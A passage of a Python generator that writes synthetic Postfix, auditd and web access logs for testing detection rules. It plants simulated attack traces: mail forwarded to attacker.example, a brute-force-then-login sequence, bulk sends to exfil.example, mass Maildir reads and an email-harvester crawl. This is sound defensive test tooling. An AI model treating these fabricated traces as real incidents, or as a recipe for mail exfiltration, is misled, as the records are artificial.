                 "delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)" % (
                     q, to, to.split("@")[1], rng.randrange(1, 255), self.qid())),
                ("qmgr", "%s: removed" % q),
                ("submission/smtpd", "disconnect from unknown[%s] ehlo=1 auth=1 mail=1 rcpt=1 "
                 "data=1 quit=1 commands=6" % ip)]

    def local(self, ts):
        q = self.qid()
        return [("pickup", "%s: uid=0 from=<root>" % q),
                ("cleanup", "%s: message-id=<%s@mx1.%s>" % (q, self.hexs(12), DOMAIN)),
                ("qmgr", "%s: from=<root@mx1.%s>, size=%d, nrcpt=1 (queue active)" % (
                    q, DOMAIN, self.rng.randrange(500, 5000))),
                ("local", "%s: to=<root@mx1.%s>, orig_to=<root>, relay=local, delay=0.01, "
                 "delays=0/0/0/0, dsn=2.0.0, status=sent (delivered to mailbox)" % (q, DOMAIN)),
                ("qmgr", "%s: removed" % q)]

    def background(self, w, ts):
        rng = self.rng
        r = rng.random()
        if r < 0.08:
            self.say(w, ts, "smtpd", "warning: unknown[203.%d.%d.%d]: SASL LOGIN authentication "
                     "failed: UGFzc3dvcmQ6" % (rng.randrange(256), rng.randrange(256),
                                               rng.randrange(1, 255)))
            return
        if r < 0.1:
            self.say(w, ts, "anvil", "statistics: max connection rate 3/60s for (smtp:203.0.113.%d)"
                     " at %s" % (rng.randrange(1, 255), time.strftime("%b %d %H:%M:%S",
                                                                       time.gmtime(ts))))
            return
        if len(self.open) < 40:
            r = rng.random()
            self.open.append(self.inbound(ts) if r < 0.55 else self.submission(ts) if r < 0.9
                             else self.local(ts))
        k = rng.randrange(len(self.open))  # one step of an open message
        daemon, msg = self.open[k].pop(0)
        self.say(w, ts, daemon, msg)
        if not self.open[k]:
            self.open.pop(k)

    def flush(self, w, ts, lines):
        for daemon, msg in lines:
            self.say(w, ts, daemon, msg)

    def plant(self, w, ts, unit):
        rng = self.rng
        drop = "drop%d@attacker.example" % unit
        for k in range(2):  # two local recipients aliased to one outside address
            q = self.qid()
            self.flush(w, ts, [
                ("smtpd", "%s: client=mail.sender.example[198.51.100.7]" % q),
                ("cleanup", "%s: message-id=<f%d.%d@sender.example>" % (q, unit, k)),
                ("qmgr", "%s: from=<news@sender.example>, size=12000, nrcpt=1 (queue active)" % q),
                ("smtp", "%s: to=<%s>, orig_to=<%s>, relay=mx.attacker.example[203.0.113.77]:25, "
                 "delay=1, delays=0/0/0.5/0.5, dsn=2.0.0, status=sent (250 ok)" % (
                     q, drop, self.addr[(unit * 7 + k) % len(self.users)])),
                ("qmgr", "%s: removed" % q)])
        q = self.qid()
        self.flush(w, ts, [
            ("pickup", "%s: uid=1001 from=<www-data>" % q),
            ("qmgr", "%s: from=<www-data@mx1.%s>, size=88000, nrcpt=1 (queue active)" % (q, DOMAIN)),
            ("smtp", "%s: to=<collect%d@mail.example>, relay=mx.mail.example[203.0.113.30]:25, "
             "delay=1, delays=0/0/0.5/0.5, dsn=2.0.0, status=sent (250 ok)" % (q, unit)),
            ("qmgr", "%s: removed" % q)])
        ip = "203.0.113.%d" % (unit % 250 + 1)
        for i in range(11):
            self.say(w, ts + i, "smtpd", "warning: unknown[%s]: SASL LOGIN authentication failed:"
                     " UGFzc3dvcmQ6" % ip)
        u = (unit * 11) % len(self.users)
        self.flush(w, ts + 20, self.submission(ts, u=u, ip=ip))
        v = (u + 1) % len(self.users)
        for i in range(21):
            self.flush(w, ts + 30, self.submission(ts, u=v, to="bulk%d@exfil.example" % unit))

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        ts = BASE_EPOCH
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                # a plant never straddles an hour bin (the SASL and bulk windows are aligned)
                ts = max(ts, (ts // 3600) * 3600 + 60) if ts % 3600 > 3500 else ts
                self.plant(w, ts, next_unit)
                next_unit += 1
            for _ in range(64):
                self.background(w, ts)
                ts += 1 if rng.random() < 0.3 else 0
        return {POSTFIX_RULES["forward"]: 2 * next_unit, POSTFIX_RULES["pickup"]: next_unit,
                POSTFIX_RULES["sasl"]: next_unit, POSTFIX_RULES["bulk"]: next_unit,
                POSTFIX_RULES["fanin"]: next_unit}


class MixedDovecot(Dovecot):
    """The dovecot kind's background lines as (app, pid, text) for the syslog kind."""

    def say(self, w, ts, msg):
        w.append(("dovecot", None, msg))


class MixedPostfix(Postfix):
    """The postfix kind's background lines as (app, pid, text) for the syslog kind."""

    def say(self, w, ts, daemon, msg):
        self.pid += 1
        w.append(("postfix/" + daemon, 1000 + self.pid % 50000, msg))


# The Linux audit log (docs/formats/auditd.md): syscall events (SYSCALL, CWD, one or two PATH,
# PROCTITLE, EOE; half of them ENRICHED) of programs opening files under watched directories:
# Dovecot's imap and lmtp reading and writing Maildir files, Thunderbird its profile, editors,
# shells and backups other files; user-space records (USER_LOGIN, USER_CMD, SERVICE_START) with
# msg='...'; a few events interleaved, some names hex-encoded. Planted per 25 MB
# (rules/linux/auditd.yml): tar reading 60 files of one Maildir in one second (60 store reads, the
# bulk rule once) and cp copying an mbox from /var/mail (one store read). Background reads of
# mail stores are all by mail programs.

AUDITD_RULES = {"read": "a341fd03-2141-48a3-9a36-4bf06ddb5f7e",
                "bulk": "246c1b64-7271-414d-aa89-1237092ba07d"}


class Auditd(Common):
    def __init__(self, seed):
        Common.__init__(self, seed)
        self.serial = 1000
        self.names = [u.split(".")[0] for u in self.users]

    def syscall(self, ts, uid, comm, exe, paths, cwd, key):
        rng = self.rng
        self.serial += 1
        m = "msg=audit(%d.%03d:%d):" % (ts, rng.randrange(1000), self.serial)
        enriched = rng.random() < 0.5
        recs = ["type=SYSCALL %s arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=%x "
                "a2=0 a3=0 items=%d ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d "
                "fsuid=%d egid=%d sgid=%d fsgid=%d tty=pts0 ses=%d comm=\"%s\" exe=\"%s\" "
                "key=\"%s\"%s" % (
                    m, rng.getrandbits(40), len(paths), rng.randrange(1, 30000),
                    rng.randrange(1, 60000), uid, uid, uid, uid, uid, uid, uid, uid, uid,
                    rng.randrange(1, 900), comm, exe, key,
                    ("\x1dARCH=x86_64 SYSCALL=openat AUID=\"%s\" UID=\"%s\" GID=\"%s\"" % (
                        (self.names[uid % len(self.names)],) * 3)) if enriched else "")]
        recs.append("type=CWD %s cwd=\"%s\"" % (m, cwd))
        for i, p in enumerate(paths):
            name = p.encode().hex().upper() if " " in p else '"%s"' % p
            recs.append("type=PATH %s item=%d name=%s inode=%d dev=fd:00 mode=0100600 ouid=%d "
                        "ogid=%d rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
                        "cap_fver=0" % (m, i, name, rng.randrange(1, 1 << 24), uid, uid))
        recs.append("type=PROCTITLE %s proctitle=%s" % (
            m, (comm + "\0" + paths[0]).encode().hex().upper()))
        recs.append("type=EOE %s" % m)
        return recs

    def user_record(self, ts):
        rng = self.rng
        self.serial += 1
        u = rng.randrange(len(self.names))
        kind = rng.choice(("USER_LOGIN", "USER_CMD", "SERVICE_START"))
        return ["type=%s msg=audit(%d.%03d:%d): pid=%d uid=0 auid=%d ses=%d msg='op=%s "
                "acct=\"%s\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.%d "
                "terminal=ssh res=success'" % (
                    kind, ts, rng.randrange(1000), self.serial, rng.randrange(1, 60000),
                    1000 + u, rng.randrange(1, 900), kind.lower(), self.names[u],
                    rng.randrange(1, 255))]

    def background(self, ts):
        rng = self.rng
        u = rng.randrange(len(self.names))
        uid, home = 1000 + u, "/home/%s" % self.names[u]
        r = rng.random()
        if r < 0.45:
            f = "%s/Maildir/%s/%d.M%dP%d.mx1:2,S" % (home, rng.choice(("cur", "new")),
                                                      ts - rng.randrange(1 << 20),
                                                      rng.randrange(1 << 20), rng.randrange(99999))
            comm = rng.choice(("imap", "lmtp"))
            return self.syscall(ts, uid, comm, "/usr/lib/dovecot/" + comm, [f], home + "/Maildir",
                                "maildir_read")
        if r < 0.6:
            f = "%s/.thunderbird/%s.default-release/ImapMail/imap.example.org/INBOX" % (
                home, self.hexs(8))
            return self.syscall(ts, uid, "thunderbird", "/usr/lib/thunderbird/thunderbird", [f],
                                home, "mail_read")
        if r < 0.9:
            f = "%s/Documents/%s %d.odt" % (home, rng.choice(("report", "notes", "plan")),
                                            rng.randrange(100))
            comm = rng.choice(("vim", "bash", "tar", "cp", "python3"))
            return self.syscall(ts, uid, comm, "/usr/bin/" + comm, [f, "/etc/ld.so.cache"],
                                home + "/Documents", "home_watch")
        return self.user_record(ts)

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        ts = BASE_EPOCH
        pending = []
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                for line in pending:  # an event's records come close together, not across plants
                    w.add(line)
                pending = []
                u = (next_unit * 7) % len(self.names)
                ts = ts - ts % 600 + 300  # the 60 reads in one 10-minute bin
                home = "/home/%s" % self.names[u]
                for i in range(60):
                    for line in self.syscall(ts, 1000 + u, "tar", "/usr/bin/tar",
                                             ["%s/Maildir/cur/%d.M%dP%d.mx1:2,S" % (
                                                 home, ts - i, i, next_unit)],
                                             home, "maildir_read"):
                        w.add(line)
                for line in self.syscall(ts, 1000 + u, "cp", "/usr/bin/cp",
                                         ["/var/mail/%s" % self.names[(u + 1) % len(self.names)]],
                                         "/tmp", "mbox_read"):
                    w.add(line)
                next_unit += 1
            for _ in range(16):
                recs = self.background(ts)
                if rng.random() < 0.2 and len(recs) > 2:  # interleave two events
                    pending, recs = recs[2:], pending + recs[:2]
                for line in recs:
                    w.add(line)
                ts += 1 if rng.random() < 0.3 else 0
        for line in pending:
            w.add(line)
        return {AUDITD_RULES["read"]: 61 * next_unit, AUDITD_RULES["bulk"]: next_unit}


# Web server access log lines (docs/formats/web_access.md): Apache combined (85 %), nginx combined
# with an appended X-Forwarded-For field (10 %) and vhost_combined (5 %); visitors from 4,096
# addresses read site pages with browser user agents, at most two people or contact pages each
# per 10-minute bin. Planted per 25 MB: one request by the EmailSiphon harvester, and one client
# that fetches 40 distinct team pages within one 10-minute bin behind a browser user agent
# (rules/web/web_access.yml).

WEB_RULES = {"harvester": "8f3c2a61-5d0e-4b7a-9c14-2e6f0b9d7a31",
             "crawl": "6d1a0f37-92c4-4e8b-a5d3-0b7e4c2f9a18"}
WEB_PAGES = ["/", "/products", "/products/widget", "/blog/2025/03/launch", "/pricing", "/login",
             "/static/app.js", "/static/site.css", "/images/logo.png", "/search", "/careers",
             "/docs/install", "/docs/api", "/favicon.ico", "/news", "/support"]
WEB_AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/131.0 Safari/537.36",
              "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like "
              "Gecko) Version/17.5 Safari/605.1.15",
              "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"]


class WebAccess(Common):
    def stamp(self, ts):
        return time.strftime("[%d/%b/%Y:%H:%M:%S +0000]", time.gmtime(ts))

    def visitor(self, ts):
        rng = self.rng
        ip = "192.0.%d.%d" % (rng.randrange(2, 18), rng.randrange(1, 255))
        page = rng.choice(WEB_PAGES)
        if rng.random() < 0.3:
            page += "?page=%d" % rng.randrange(1, 50)
        ref = '"https://www.%s%s"' % (DOMAIN, rng.choice(WEB_PAGES)) if rng.random() < 0.6 else '"-"'
        line = '%s - - %s "GET %s HTTP/1.1" %d %d %s "%s"' % (
            ip, self.stamp(ts), page, 200 if rng.random() < 0.95 else 404,
            rng.randrange(200, 90000), ref, rng.choice(WEB_AGENTS))
        shape = rng.random()
        if shape < 0.10:
            line += ' "10.0.%d.%d"' % (rng.randrange(256), rng.randrange(1, 255))
        elif shape < 0.15:
            line = "www.%s:443 %s" % (DOMAIN, line)
        return line

    def run(self, w, size):
        ts = BASE_EPOCH
        unit = 25 * 1000 * 1000
        next_plant = unit // 2
        planted = 0
        while w.size() < size:
            for _ in range(64):
                w.add(self.visitor(ts))
                ts += 1 if self.rng.random() < 0.2 else 0
            if w.size() >= next_plant:
                planted += 1
                next_plant += unit
                w.add('198.51.100.23 - - %s "GET /contact HTTP/1.1" 200 1800 "-" "EmailSiphon"'
                      % self.stamp(ts))
                bin_start = ts - ts % 600 + 600
                ts = bin_start
                for i in range(40):
                    w.add('203.0.113.%d - - %s "GET /about/team?page=%d HTTP/1.1" 200 9000 "-" '
                          '"%s"' % (planted % 200 + 1, self.stamp(bin_start + i * 5), i + 1,
                                    WEB_AGENTS[0]))
                ts = bin_start + 600
        return {WEB_RULES["harvester"]: planted, WEB_RULES["crawl"]: planted}


# kind -> factory(seed); the kinds of part1_kinds() also name their writer.
KINDS = {"defender": lambda seed: Defender(seed), "office": lambda seed: Office(seed + 1),
         "adminxml": lambda seed: AdminXml(seed + 2), "iis": lambda seed: Iis(seed + 2),
         "msgtrack": lambda seed: MsgTrack(seed + 3),
         "graph": lambda seed: Graph(seed + 2), "msgtrace": lambda seed: MessageTrace(seed + 3),
         "winevent": lambda seed: WinEvent(seed + 5), "syslog": lambda seed: Syslog(seed + 6),
         "syslog-unjoined": lambda seed: SyslogUnjoined(seed + 6),
         "winlogbeat": lambda seed: Winlogbeat(seed + 8),
         "dovecot": lambda seed: Dovecot(seed + 7), "postfix": lambda seed: Postfix(seed + 8),
         "auditd": lambda seed: Auditd(seed + 9), "access": lambda seed: WebAccess(seed + 10)}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    kinds = part1_kinds()
    ap.add_argument("--kind", choices=sorted(KINDS) + sorted(kinds), required=True)
    ap.add_argument("--size", default="200M", help="target size, e.g. 50M, 1G")
    ap.add_argument("--seed", type=int, default=1114)
    ap.add_argument("--out", required=True)
    args = ap.parse_args()
    size = parse_size(args.size)
    if args.kind in kinds:
        factory, writer = kinds[args.kind]
        gen, w = factory(args.seed), writer(args.out, size)
    else:
        gen, w = KINDS[args.kind](args.seed), Writer(args.out, size)
    expected = gen.run(w, size)
    w.close()
    exp = {"kind": args.kind, "bytes": w.total, "seed": args.seed,
           "findings": {str(k): v for k, v in sorted(expected.items())}}
    with open(args.out + ".expected.json", "w", encoding="utf-8") as fh:
        json.dump(exp, fh)
        fh.write("\n")
    json.dump(exp, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
